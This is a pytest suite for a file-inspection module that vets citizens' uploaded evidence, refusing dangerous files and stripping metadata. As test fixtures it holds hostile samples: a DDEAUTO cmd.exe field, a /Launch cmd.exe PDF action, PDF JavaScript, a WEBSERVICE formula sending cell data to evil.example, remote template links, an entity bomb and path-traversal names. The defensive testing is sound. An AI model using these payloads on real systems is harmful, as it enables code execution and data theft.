import io
import unicodedata
import zipfile
from dataclasses import replace
from pathlib import PurePosixPath

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf.generic import DecodedStreamObject

from bot.complaints.errors import RefusedFileError
from bot.complaints.evidence_checks import check_file, label_of, load_file_rules
from bot.complaints.inspection.__main__ import inspect
from bot.complaints.inspection.refusal import RefusedError
from bot.settings import ROOT
from tests.complaints import files

RULES = load_file_rules(ROOT / "knowledge")
JPEG = files.photo()
SVG = b'<?xml version="1.0"?><!-- x --><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
VIDEO = b"\x00\x00\x00\x18ftypmp42" + bytes(1000)
JS = {"S": "/JavaScript", "X": "app.alert(1)"}
WORD_LINKS = "word/_rels/document.xml.rels"


def told(value):
    """What a test is called by: the bytes of a file would fill the screen."""
    return value if isinstance(value, str) else "file"


def verdict(content):
    """The kind of a file, or why it is refused; in this program, so without its bounds."""
    try:
        return inspect(content, RULES.limits)[0]
    except RefusedError as refusal:
        return refusal.reason


def cleaned(content):
    return inspect(content, RULES.limits)[1]


@pytest.mark.parametrize(
    ("content", "kind"),
    [(files.photo(kind), kind.lower()) for kind in ("JPEG", "PNG", "WEBP")]
    + [(files.pdf(), "pdf"), (files.document(), "docx"), (files.sheet(), "xlsx")],
    ids=told,
)
def test_every_kind_that_is_promised_is_taken(content, kind):
    assert verdict(content) == kind
    assert verdict(cleaned(content)) == kind


REFUSED = {
    "archive": [files.archive(), b"Rar!\x1a\x07" + bytes(50), b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08"],
    "svg": [SVG, SVG.decode().encode("utf-16"), b"\xef\xbb\xbf<svg onload='x'/>"],
    "html": [b"<!DOCTYPE html><p>", b"  <html>", b"<script>alert(1)</script>"],
    "video": [VIDEO, b"\x1aE\xdf\xa3" + bytes(50), b"RIFF\x00\x00\x00\x00AVI LIST"],
    "audio": [b"fLaC" + bytes(50), b"RIFF\x00\x00\x00\x00WAVEfmt "],
    "heic": [b"\x00\x00\x00\x18ftypheic" + bytes(50), b"\x00\x00\x00\x18ftypavif"],
    "other_image": [files.photo("GIF"), files.photo("BMP"), files.photo("TIFF")],
    "program": [b"MZ\x90\x00", b"\x7fELF\x02", b"#!/bin/sh\n"],
    "old_office": [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"{\\rtf1"],
    "unknown": [b"xin", b"\x00" * 100, files.document(main="application/x"), b"RIFF\x00\x00\x00\x00ABCD"],
    "empty": [b""],
    "broken": [files.photo(size=(400, 400))[:-300], JPEG[:30], files.photo("PNG")[:60], b"%PDF-1.7\n", b"PK\x03\x04xx"],
    "mixed": [
        *(JPEG + tail for tail in (files.archive(), b"<script>alert(1)</script>", b"<?php system(1) ?>")),
        files.photo("PNG") + files.archive(),
        files.photo(comment=b"%PDF-1.7"),
        *(files.pdf() + tail for tail in (files.archive(), b"<script src=x>")),
        b"PK\x03\x04" + bytes(26) + files.document(),
    ],
    "pixels": [files.huge_png(), files.huge_png(8_001)],
    "animated": [files.animated()],
    "encrypted": [files.pdf(password="1234")],
    "pages": [files.pdf(pages=301)],
    "active_pdf": [
        files.pdf_that(OpenAction=files.named(**JS)),
        files.pdf_that(OpenAction=files.named(**JS)).replace(b"/JavaScript", b"/J#61vaScr#69pt"),
        files.pdf_that(OpenAction=files.named(S="/Launch", F="cmd.exe")),
        files.pdf_that(OpenAction=files.named(S="/GoTo", Next=[files.named(**JS)])),
        files.pdf_that(AA=files.named(WC=files.named(**JS))),
        files.pdf_that(Names=files.named(JavaScript=files.named(Names=["a", files.named(**JS)]))),
        files.pdf_that(Names=files.named(EmbeddedFiles=files.named(Names=[]))),
        files.pdf_that(AcroForm=files.named(XFA="x")),
        files.pdf_that(Collection=files.named(View="/D")),
        files.pdf_with_annotation(Subtype="/FileAttachment", FS=files.named(Type="/Filespec", F="a")),
        files.pdf_with_annotation(Subtype="/Link", A=files.named(S="/URI", URI=" java\nscript:alert(1)")),
        files.pdf_with_annotation(Subtype="/Link", A=files.named(S="/GoToR", F="\\\\evil\\share")),
        files.pdf_with_annotation(Subtype="/RichMedia"),
    ],
    "macro": [
        files.document(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        files.document(parts={"word/vbaProject.bin": b"x"}),
        files.document(types='<Default Extension="x" ContentType="application/vnd.ms-office.vbaProject"/>'),
        files.document(parts={WORD_LINKS: files.links(("control", "activeX/activeX1.xml"))}),
        files.document(parts={"word/activeX/activeX1.bin": b"x"}),
    ],
    "embedded": [
        files.document(parts={"word/embeddings/a.docm": b"x"}),
        files.document(parts={WORD_LINKS: files.links(("oleObject", "embeddings/a.xml"))}),
        files.document(parts={WORD_LINKS: files.links(("aFChunk", "afchunk.xml"))}),
        files.document(parts={"word/afchunk.html": "<script>"}),
        files.document("<w:altChunk/>"),
    ],
    "external": [
        files.document(parts={WORD_LINKS: files.links((kind, target, "External"))})
        for kind, target in (
            ("attachedTemplate", "http://evil.example/t.dotm"),
            ("image", "http://evil.example/i.png"),
            ("frame", "http://evil.example"),
            ("hyperlink", "file://evil/share"),
            ("hyperlink", "\\\\evil\\share"),
        )
    ]
    + [files.document(parts={WORD_LINKS: files.links(("attachedTemplate", "t.xml"))})],
    "fields": [
        files.document(files.field('DDEAUTO c:\\\\cmd.exe "/k calc"')),
        files.document(files.field("DD", "EAU", "TO", " c:\\\\cmd.exe")),
        files.document(files.field(" dde  x y")),
        files.document(files.field("QUOTE 68 68 69")),
        files.document(files.field('SET a "DDEAUTO"')),
        files.document(files.BEGIN + files.field("REF a") + files.field(" c:\\\\cmd.exe")),
        files.document(files.field("INCLUDEPICTURE http://evil.example/a.png")),
        files.document('<w:fldSimple w:instr="DDE a b"/>'),
        files.sheet(formula="=cmd|'/c calc'!A1"),
        files.sheet(formula='=WEBSERVICE("http://evil.example/"&A1)'),
    ],
}


@pytest.mark.parametrize(
    ("reason", "content"), [(reason, one) for reason, some in REFUSED.items() for one in some], ids=told
)
def test_what_is_no_photo_and_no_plain_document_is_refused_with_its_reason(reason, content):
    assert verdict(content) == reason


def test_every_reason_has_a_sentence_of_its_own():
    assert set(REFUSED) - set(RULES.refusals) == set()
    assert len(set(RULES.refusals.values())) == len(RULES.refusals)
    assert all(sentence[0].isupper() and sentence.endswith(".") for sentence in RULES.refusals.values())


ORDINARY = [
    files.document(files.field(" HYPERLINK http://a.vn ")),
    files.document(files.field("PAGE")),
    files.document(files.field("IF ", files.field("MERGEFIELD so"), " = 1 a b")),
    files.document(parts={WORD_LINKS: files.links(("hyperlink", "https://dichvucong.gov.vn", "External"))}),
    files.sheet(formula="=IF(B1=\"a|b\",SUM(C1:C9),'Tờ 1'!A1)"),
    files.sheet("DDE là gì? cmd|x"),
    files.pdf_that(OpenAction=files.named(S="/GoTo", D=[])),
    files.pdf_that(Lang="vi-VN"),
    files.pdf_with_annotation(Subtype="/Link", A=files.named(S="/URI", URI="https://dichvucong.gov.vn")),
]


@pytest.mark.parametrize("content", ORDINARY, ids=told)
def test_an_ordinary_document_is_not_taken_for_a_dangerous_one(content):
    assert verdict(content) in ("docx", "xlsx", "pdf")


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_photo_is_kept_upright_without_place_and_comment(kind):
    content = files.photo_with_secrets(kind)
    kept = cleaned(content)
    picture = Image.open(io.BytesIO(kept))
    assert (files.SECRET in content, files.SECRET in kept) == (True, False)
    assert (picture.size, len(picture.getexif()), picture.info.get("comment")) == ((40, 60), 0, None)


def test_a_large_photo_is_kept_as_large_as_it_needs_to_be_read():
    picture = Image.open(io.BytesIO(cleaned(files.photo(size=(6000, 3000)))))
    assert picture.size == (4096, 2048)


@pytest.mark.parametrize(
    ("mode", "kind", "shade"),
    [
        ("1", "PNG", 255),
        ("CMYK", "JPEG", 200),
        ("L", "JPEG", 200),
        ("RGBA", "WEBP", 200),
        *((mode, "PNG", 200) for mode in ("L", "P", "RGBA", "LA")),
    ],
)
def test_a_picture_of_any_colours_is_taken(mode, kind, shade):
    out = io.BytesIO()
    Image.new("L", (9, 9), 200).convert(mode).save(out, kind)
    kept = Image.open(io.BytesIO(cleaned(out.getvalue()))).convert("L")
    assert abs(kept.getpixel((4, 4)) - shade) < 8


def test_a_picture_of_sixteen_bits_keeps_its_shades():
    out = io.BytesIO()
    Image.new("I;16", (9, 9), 200 * 256).save(out, "PNG")
    assert Image.open(io.BytesIO(cleaned(out.getvalue()))).getpixel((4, 4)) == 200


def test_a_pdf_loses_its_description_and_that_of_its_photos():
    content = files.pdf(photos=[files.photo_with_secrets()])
    kept = cleaned(content)
    assert (content.count(files.SECRET) >= 2, kept.count(files.SECRET)) == (True, 0)
    assert Image.open(io.BytesIO(kept[kept.index(b"\xff\xd8\xff") :])).size == (60, 40)


def test_a_pdf_loses_what_stands_about_its_pages():
    def describe(writer):
        about = DecodedStreamObject()
        about.set_data(b"<x:xmpmeta>" + files.SECRET)
        described = files.named(Metadata=writer._add_object(about), PieceInfo=files.named(A=files.SECRET.decode()))
        writer.pages[0].update(described)
        writer.root_object.update(described)

    content = files.pdf(author="An", change=describe)
    assert (files.SECRET in content, files.SECRET in cleaned(content)) == (True, False)
    assert b"xmpmeta" not in cleaned(content)


def test_a_document_loses_its_properties_and_opens_as_before():
    content = files.sheet("Hồ sơ trễ hẹn")
    kept = cleaned(content)
    archive = zipfile.ZipFile(io.BytesIO(kept))
    parts = {name: archive.read(name) for name in archive.namelist()}
    assert not any(files.SECRET in part or b"docProps" in part for part in parts.values())
    assert not any(name.startswith("docProps") for name in parts)
    assert openpyxl.load_workbook(io.BytesIO(kept)).active["A1"].value == "Hồ sơ trễ hẹn"


def test_a_photo_in_a_document_loses_its_description():
    kept = cleaned(files.document(parts={"word/media/image1.jpeg": files.photo_with_secrets()}))
    picture = zipfile.ZipFile(io.BytesIO(kept)).read("word/media/image1.jpeg")
    assert files.SECRET not in picture
    assert Image.open(io.BytesIO(picture)).size == (60, 40)


def test_a_document_type_in_a_part_is_refused_before_it_expands():
    bomb = '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'
    assert verdict(files.document(parts={"word/styles.xml": bomb})) == "broken"


def test_a_document_that_unpacks_to_too_much_is_refused():
    assert verdict(files.document(parts={"word/media/a.bmp": bytes(105_000_000)})) == "too_complex"


@pytest.mark.parametrize("content", [files.photo_with_secrets(), files.pdf(), files.document()], ids=told)
def test_the_same_file_is_cleaned_the_same_way_each_time(content):
    assert cleaned(content) == cleaned(content)


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_no_damaged_file_makes_the_inspection_stumble(data):
    content = bytearray(data.draw(st.sampled_from([JPEG, files.pdf(), files.document(), files.photo("PNG")])))
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    assert verdict(bytes(content)) in {*RULES.kinds, *RULES.refusals}


# From here on in a program of its own, as citizens' files are.


def refusal(content, rules=RULES):
    with pytest.raises(RefusedFileError) as refused:
        check_file(rules, "a.jpg", content)
    assert str(refused.value) == RULES.refusals[refused.value.reason]
    return refused.value.reason


def test_a_file_comes_back_cleaned_with_its_kind_and_name():
    file = check_file(RULES, "Biên nhận.JPG", files.photo_with_secrets())
    assert (file.name, file.media_type) == ("Biên nhận.jpg", "image/jpeg")
    assert files.SECRET not in file.content


@pytest.mark.parametrize("reason", ["empty", "archive", "svg", "macro", "pixels", "active_pdf"])
def test_a_refusal_comes_back_as_a_sentence(reason):
    assert refusal(REFUSED[reason][0]) == reason


def test_a_file_that_is_too_large_is_refused_unopened():
    assert refusal(JPEG + bytes(11 * 1024 * 1024)) == "file_bytes"
    assert refusal(VIDEO + bytes(30 * 1024 * 1024)) == "video"


def test_a_picture_that_needs_too_much_memory_is_refused():
    rules = replace(RULES, limits={**RULES.limits, "memory_bytes": 180_000_000})
    assert refusal(files.photo("PNG", size=(8000, 7900)), rules) == "too_complex"


def test_a_document_that_needs_too_much_time_is_refused():
    rules = replace(RULES, limits={**RULES.limits, "seconds": 1})
    assert refusal(files.document("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 1_200_000), rules) == "too_complex"


@pytest.mark.parametrize(
    ("name", "label"),
    [
        ("../../etc/passwd", "passwd.jpg"),
        ("C:\\Users\\Hoa\\ảnh.jpeg", "ảnh.jpeg"),
        ("gpj.\u202eexe.jpg", "gpj. exe.jpg"),
        ("a\x00b\nc\u200b.PNG", "a b c .PNG.jpg"),
        ("", "tep.jpg"),
        ("...", "tep.jpg"),
        ("ho so.docx", "ho so.docx.jpg"),
        ("\ud800.jpg", "tep.jpg"),
        ("<img src=x onerror=alert(1)>.jpg", "<img src=x onerror=alert(1)>.jpg"),
    ],
)
def test_a_name_is_a_label_and_nothing_more(name, label):
    assert label_of(name, RULES.kinds["jpeg"]) == label


@given(st.text(max_size=300))
def test_no_name_at_all_makes_a_path_or_a_line(name):
    label = label_of(name, RULES.kinds["pdf"])
    assert label.endswith(".pdf")
    assert PurePosixPath(label).name == label
    assert len(label) <= 84
    assert not any(unicodedata.category(char)[0] == "C" for char in label)
